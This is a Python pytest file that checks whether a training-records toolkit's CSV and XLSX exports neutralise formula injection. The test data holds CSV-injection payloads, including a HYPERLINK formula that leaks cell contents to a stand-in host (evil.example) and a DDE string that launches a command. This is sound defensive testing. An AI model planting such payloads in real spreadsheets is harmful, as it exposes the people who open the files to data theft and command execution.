"""Files are safe to open: every CSV and XLSX the toolkit writes neutralises formula cells.

People with hostile names are imported through the CLI, then every command that writes a CSV
or XLSX file is run, and every cell of every file is read back (XLSX with openpyxl).
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from imatter.cells import FORMULA_START, safe_cell, unsafe_cell
from imatter.cli import main

from ..delivery.world import build_world

HOSTILE = {
    '=HYPERLINK("http://evil.example/?x="&A1,"click")': "evil@oak.example",
    "+1 Plus": "plus@oak.example",
    "-2 Minus": "-minus@oak.example",
    "@SUM(A1)": "at@oak.example",
}
HOSTILE_SETTING = "=cmd|' /C calc'!A0"


@pytest.fixture
def hostile(ws, tmp_path, capsys):
    world = build_world(ws)

    def run(*args: str) -> str:
        code = main(["-w", str(ws.path), *args])
        out, err = capsys.readouterr()
        assert code == 0, (args, out, err)
        return out

    run("setting", "add", "evil-school", "--name", HOSTILE_SETTING, "--pupils", "90")
    run("membership", "add", "evil-school", "--from", "2026-09-01")
    people = tmp_path / "people.csv"
    with people.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.writer(handle)
        writer.writerow(["name", "email", "setting", "position"])
        for name, email in HOSTILE.items():
            writer.writerow([name, email, "oakfield", "teacher"])
    run("person", "import", str(people))
    done = tmp_path / "done.csv"
    done.write_text(
        "person,course,date\n"
        + "".join(f"{email},foundation-a,2026-10-01\n" for email in HOSTILE.values()),
        encoding="utf-8",
    )
    run("complete", "import", str(done))
    run(
        "group", "create", "--course", "foundation-b", "--term", "2026-27-t1",
        "--leader", "lena@oak.example", "--setting", "oakfield", "--on", "2026-09-20",
    )  # fmt: skip
    run("group", "enrol", "1", "--on", "2026-09-20", "--", *HOSTILE.values())
    run("group", "schedule", "1", "--from", "2026-10-01", "--count", "2")
    return world, run


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _xlsx_cells(path: Path) -> list[str]:
    import openpyxl

    book = openpyxl.load_workbook(path)
    cells = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{path.name}!{sheet.title}!{cell.coordinate}"
                if isinstance(cell.value, str):
                    cells.append(cell.value)
    return cells


def _all_cells(paths: list[Path]) -> dict[str, list[str]]:
    found: dict[str, list[str]] = {}
    for path in paths:
        if path.suffix == ".xlsx":
            found[path.name] = _xlsx_cells(path)
        elif path.suffix == ".csv":
            found[path.name] = _csv_cells(path.read_text(encoding="utf-8"))
        elif path.suffix == ".zip":
            with zipfile.ZipFile(path) as archive:
                for name in archive.namelist():
                    if name.endswith(".csv"):
                        text = archive.read(name).decode("utf-8")
                        found[f"{path.name}:{name}"] = _csv_cells(text)
    return found


def test_every_csv_and_xlsx_written_neutralises_formula_cells(hostile, tmp_path):
    world, run = hostile
    out = tmp_path / "out"
    out.mkdir()
    as_of = ["--as-of", "2026-11-28"]
    run("report", "--format", "csv", "--output", str(out / "report-csv"), *as_of)
    run("report", "--format", "xlsx", "--output", str(out / "report.xlsx"), *as_of)
    run("export", "report", "--format", "csv", "--output", str(out / "export-csv"), *as_of)
    run("export", "report", "--format", "xlsx", "--output", str(out / "export.xlsx"), *as_of)
    printed = run("export", "report", "pipeline", *as_of)
    (out / "printed.csv").write_text(printed, encoding="utf-8")
    run("attendance", "template", "1", "--output", str(out / "register.csv"))
    run("licences", "invoices", "--from", "2026-01-01", "--to", "2026-12-31",
        "--csv", str(out / "invoices.csv"))  # fmt: skip
    run("takestock", "template", str(out / "review.csv"))
    run("privacy", "export", "evil@oak.example", "--out", str(out / "evil.zip"))

    files = sorted(p for p in out.rglob("*") if p.is_file())
    cells = _all_cells(files)
    assert {"register.csv", "invoices.csv", "review.csv", "report.xlsx", "export.xlsx"} <= set(
        cells
    )
    assert "evil.zip:tables/people.csv" in cells
    for name, values in cells.items():
        bad = [v for v in values if v.startswith(FORMULA_START)]
        assert not bad, f"{name}: {bad}"
    everything = {v for values in cells.values() for v in values}
    # The hostile text is there, made inert, in the reports, the register and the export.
    for name in HOSTILE:
        assert "'" + name in everything, name
    assert "'" + HOSTILE_SETTING in everything
    people = cells["evil.zip:tables/people.csv"]
    assert "'" + next(iter(HOSTILE)) in people
    assert "'=HYPERLINK" in "".join(cells["export.xlsx"])
    assert "'-2 Minus" in cells["register.csv"] and "'-minus@oak.example" in cells["register.csv"]


def test_the_register_template_imports_back_after_export(hostile, tmp_path):
    world, run = hostile
    template = tmp_path / "register.csv"
    run("attendance", "template", "1", "--output", str(template))
    rows = list(csv.reader(template.read_text(encoding="utf-8").splitlines()))
    assert rows[0] == ["group", "date", "person", "present", "name"]
    filled = [rows[0]] + [[*row[:3], "yes", row[4]] for row in rows[1:]]
    with template.open("w", newline="", encoding="utf-8") as handle:
        csv.writer(handle).writerows(filled)
    out = run("attendance", "import", str(template), "--by", "lena@oak.example")
    assert out == (  # 4 learners, 2 sessions
        f"Imported 8 attendance mark(s) from {template}: 8 added, 0 corrected, 0 unchanged\n"
    )
    shown = run("attendance", "show", "1")
    assert "-2 Minus" in shown and "'-2 Minus" not in shown


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+2", "'=1+2"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tTab", "'\tTab"),
        ("\rCR", "'\rCR"),
        ("Ann", "Ann"),
        ("'quoted", "'quoted"),
        ("", ""),
        (-2, -2),
        (1.5, 1.5),
        (None, None),
    ],
)
def test_safe_cell_quotes_formula_text_only_and_round_trips(value, safe):
    assert safe_cell(value) == safe
    assert safe_cell(safe_cell(value)) == safe
    if isinstance(value, str):
        assert unsafe_cell(safe_cell(value)) == value


def test_every_module_that_writes_csv_or_xlsx_uses_the_safe_cell_helper():
    """A new CSV or XLSX writer cannot ship without going through imatter.cells."""
    import re

    package = Path(__file__).resolve().parents[2] / "toolkit" / "imatter"
    writes = re.compile(r"csv\.writer\(|csv\.DictWriter\(|\.to_csv\(|\.to_excel\(|openpyxl")
    writers = {
        path.relative_to(package).as_posix()
        for path in package.rglob("*.py")
        if path.name != "cells.py" and writes.search(path.read_text(encoding="utf-8"))
    }
    assert writers >= {
        "reports/render.py",
        "trust/privacy/export.py",
        "delivery/groups/attendance.py",
    }
    # Turns a workbook being imported into CSV text in memory: nothing it makes is saved.
    readers = {"records/csvfile.py"}
    unsafe = sorted(
        name
        for name in writers - readers
        if not re.search(r"from \.+cells import", (package / name).read_text(encoding="utf-8"))
    )
    assert unsafe == []
    for name in readers:
        text = (package / name).read_text(encoding="utf-8")
        assert not re.search(r"write_text|write_bytes|open\(", text), name
